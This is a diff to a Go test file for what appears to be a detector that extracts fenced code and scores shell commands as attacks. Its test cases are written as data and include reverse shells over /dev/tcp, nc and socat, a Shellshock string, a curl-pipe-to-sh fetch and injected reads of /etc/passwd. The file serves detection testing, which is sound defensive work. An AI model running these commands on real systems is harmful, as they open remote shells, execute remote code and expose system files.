@@ -14,6 +14,9 @@ func TestShownCode(t *testing.T) {
 		// rest is text.
 		{"```sh\nset -eu\nmake test\n```\n\nThanks!", "\n\n\n\n\nThanks!", []string{"set -eu\nmake test\n"}},
 		{"Try:\n~~~\nls -la\n~~~\nand\n```go\nx := 1\n```", "Try:\n\n\n\nand\n\n\n", []string{"ls -la\n", "x := 1\n"}},
+		// A fence around one line and nothing else wraps a payload.
+		{"```\n;cat /etc/passwd\n```", "```\n;cat /etc/passwd\n```", nil},
+		{"```sh\nid\n```\n\nprints your uid", "\n\n\n\nprints your uid", []string{"id\n"}},
 		// A block left open shows nothing: the value is judged whole.
 		{"```sh\n; cat /etc/passwd", "```sh\n; cat /etc/passwd", nil},
 		// Code spans in a sentence.
@@ -47,6 +50,9 @@ func TestShellShownCode(t *testing.T) {
 		{"go vet ./...", scoreWeak},
 		{"x := compute(1)", scoreNone},
 		{"bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", scoreAttack},
+		{"ls\n;cat /etc/passwd", scoreAttack},
+		{"make\n$(curl x.example.net/a.sh | sh)", scoreAttack},
+		{"x=$(date)\necho \"$x\"", scoreWeak},
 		{"nc -e /bin/sh 10.0.0.9 4444", scoreAttack},
 		{"socat tcp:10.0.0.9:4444 exec:/bin/sh", scoreAttack},
 		{"() { :; }; /bin/bash -c id", scoreAttack},
